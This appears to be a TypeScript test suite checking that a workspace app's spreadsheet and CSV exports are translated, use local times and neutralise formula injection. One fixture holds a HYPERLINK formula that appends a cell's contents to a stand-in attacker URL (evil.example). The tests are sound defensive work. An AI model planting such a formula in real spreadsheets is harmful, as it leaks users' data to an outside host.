// The acknowledgement matrix and the readiness report as people open them (issue 11):
// .xlsx and Excel-friendly CSV, translated, local times with the zone named, and no
// cell a spreadsheet would run as a formula. Each file is read back and checked.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { dsvFormat } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { useOpenFixtureWorkspace } from '../../helpers/workspace.ts';

const ws = useOpenFixtureWorkspace();
const NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Details")';

async function withFormulaNote() {
  await ws.call('settings.set', { timeZone: 'Europe/Kyiv' });
  await ws.call(
    'acknowledgements.record',
    { campaign: 'bf-next-day', department: 'sales', version: 2, state: 'concern', note: NOTE },
    'ivan',
  );
}

async function sheetOf(base64: string): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(base64, 'base64') as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

/**
 * Rows as Excel or LibreOffice split a CSV opened with the locale's list separator: a line
 * break outside quotes (CR, LF or CRLF) always ends a row, unlike csv-parse's lenient reading.
 */
function excelRows(base64: string, separator: ';' | ','): string[][] {
  const text = Buffer.from(base64, 'base64').toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return dsvFormat(separator).parseRows(text.slice(1).replace(/\r\n$/, ''));
}

const rowsOf = (sheet: ExcelJS.Worksheet) => {
  const rows: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
};

describe('acknowledgement matrix for spreadsheets', () => {
  it('.xlsx in Ukrainian: translated headers and values, local time in Kyiv, a formula-looking note as text', async () => {
    await withFormulaNote();
    const file = await ws.call('reports.acknowledgements', { format: 'xlsx', locale: 'uk' });
    expect(file.fileName).toMatch(/\.xlsx$/);
    const sheet = await sheetOf(file.base64);
    expect(sheet.name).toBe('Підтвердження');
    const [header, ...rows] = rowsOf(sheet);
    expect(header).toContain('Коли (Europe/Kyiv)');
    const sales = rows.find((r) => r[0] === 'bf-next-day' && r[2] === 'Sales')!;
    expect(sales[4]).toBe('Застереження');
    // Stored as text with the apostrophe, never as a formula.
    expect(sales[9]).toBe(`'${NOTE}`);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
    // Taras acknowledged at 2026-11-11T10:00Z: 12:00 in Kyiv, as a date cell.
    const delivery = rows.find((r) => r[0] === 'bf-next-day' && r[2] === 'Delivery')!;
    expect(delivery[7]).toEqual(new Date(Date.UTC(2026, 10, 11, 12, 0)));
    expect(delivery[8]).toBe('Так');
  });

  it('CSV in Swedish: BOM, ";" as Excel splits it where decimals are commas, neutralised note', async () => {
    await withFormulaNote();
    const file = await ws.call('reports.acknowledgements', { format: 'csv', locale: 'sv-SE' });
    const bytes = Buffer.from(file.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.toString('utf8').slice(1), { delimiter: ';' }) as string[][];
    expect(rows[0]).toEqual([
      'Kampanj',
      'Titel',
      'Avdelning',
      'Aktuell version',
      'Status',
      'Kvitterad version',
      'Av',
      'Tid (Europe/Kyiv)',
      'Upphävd av en senare ändring',
      'Anteckning',
    ]);
    const sales = rows.find((r) => r[0] === 'bf-next-day' && r[2] === 'Sales')!;
    expect(sales[4]).toBe('Invändning');
    expect(sales[9]).toBe(`'${NOTE}`);
    expect(rows.find((r) => r[2] === 'Delivery' && r[0] === 'bf-next-day')?.[7]).toBe('2026-11-11 12:00');
  });

  it('CSV in English: "," separated', async () => {
    const file = await ws.call('reports.acknowledgements', { format: 'csv', locale: 'en-GB' });
    const rows = parse(Buffer.from(file.base64, 'base64').toString('utf8').slice(1)) as string[][];
    expect(rows[0]?.[0]).toBe('Campaign');
    expect(rows.every((r) => r.length === 10)).toBe(true);
  });

  it('CSV in Ukrainian: every row has the ten columns when split at ";", a multi-line note stays one cell', async () => {
    await ws.call('settings.set', { timeZone: 'Europe/Kyiv' });
    const note = 'Двоє на лікарняному\nповернуться 1 грудня, 87,5 % складу';
    await ws.call(
      'acknowledgements.record',
      { campaign: 'bf-next-day', department: 'sales', version: 2, state: 'concern', note },
      'ivan',
    );
    const file = await ws.call('reports.acknowledgements', { format: 'csv', locale: 'uk' });
    const [header, ...rows] = excelRows(file.base64, ';');
    expect(header).toHaveLength(10);
    expect(rows.filter((r) => r.length !== 10)).toEqual([]);
    const sales = rows.find((r) => r[0] === 'bf-next-day' && r[2] === 'Sales')!;
    expect(sales[9]).toBe(note);
    expect(sales[3]).toBe('2');
  });

  it('.xlsx: a note starting with any of = + - @ comes back as text, never a formula', async () => {
    for (const note of ['=1+1', '+380 44 123 4567', '-2+3', '@SUM(A1:A2)']) {
      await ws.call(
        'acknowledgements.record',
        { campaign: 'bf-next-day', department: 'sales', version: 2, state: 'concern', note },
        'ivan',
      );
      const file = await ws.call('reports.acknowledgements', {
        format: 'xlsx',
        locale: 'en-GB',
        campaign: 'bf-next-day',
      });
      const sheet = await sheetOf(file.base64);
      let cell: ExcelJS.Cell | undefined;
      sheet.eachRow((row) => row.getCell(3).value === 'Sales' && (cell = row.getCell(10)));
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(`'${note}`);
    }
  });

  it('the machine CSV neutralises formula-looking notes too', async () => {
    await withFormulaNote();
    const rows = parse(await ws.call('reports.acknowledgementsCsv', {}), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows.find((r) => r.campaign === 'bf-next-day' && r.department === 'Sales')?.note).toBe(`'${NOTE}`);
  });
});

describe('readiness report for spreadsheets', () => {
  it('.xlsx in Serbian: one row per campaign, readiness in words, problems as sentences', async () => {
    await ws.call('settings.set', { timeZone: 'Europe/Belgrade' });
    const file = await ws.call('reports.readiness', {
      format: 'xlsx',
      locale: 'sr',
      at: '2026-11-22T10:00:00Z',
    });
    const [header, ...rows] = rowsOf(await sheetOf(file.base64));
    expect(header).toEqual([
      'Kampanja',
      'Naslov',
      'Faza',
      'Spremnost',
      'Početak (Europe/Belgrade)',
      'Kraj (Europe/Belgrade)',
      'Odluka',
      'Problemi',
      'Stanje na dan (Europe/Belgrade)',
    ]);
    const bf = rows.find((r) => r[0] === 'bf-next-day')!;
    // 2026-11-27T00:00Z is 01:00 in Belgrade.
    expect(bf[4]).toEqual(new Date(Date.UTC(2026, 10, 27, 1, 0)));
    expect(String(bf[7])).toContain('Sales');
    expect(typeof bf[3]).toBe('string');
  });

  it('CSV in Ukrainian is ";" separated with a BOM', async () => {
    const file = await ws.call('reports.readiness', {
      format: 'csv',
      locale: 'uk',
      at: '2026-11-22T10:00:00Z',
    });
    const text = Buffer.from(file.base64, 'base64').toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(text.slice(1), { delimiter: ';' }) as string[][];
    expect(rows[0]?.[0]).toBe('Кампанія');
    expect(rows.slice(1).map((r) => r[0])).toContain('bf-next-day');
  });

  it('CSV in Ukrainian opens with nine columns per campaign: several problems stay in one cell', async () => {
    await ws.call('settings.set', { timeZone: 'Europe/Kyiv' });
    const file = await ws.call('reports.readiness', {
      format: 'csv',
      locale: 'uk',
      at: '2026-11-22T10:00:00Z',
    });
    const [header, ...rows] = excelRows(file.base64, ';');
    expect(header).toHaveLength(9);
    expect(rows.filter((r) => r.length !== 9)).toEqual([]);
    expect(rows.map((r) => r[0])).toEqual(
      expect.arrayContaining(['autumn-install', 'winter-signs', 'bf-next-day']),
    );
    expect(rows.every((r) => /^[a-z0-9-]+$/.test(r[0]!))).toBe(true);
    // winter-signs has four problems, one per line of its cell; values with decimal commas.
    const winter = rows.find((r) => r[0] === 'winter-signs')!;
    expect(winter[7]!.split('\n')).toHaveLength(4);
    expect(winter[7]).toContain('8,07 h');
    expect(winter[8]).toBe('2026-11-22 12:00');
  });
});
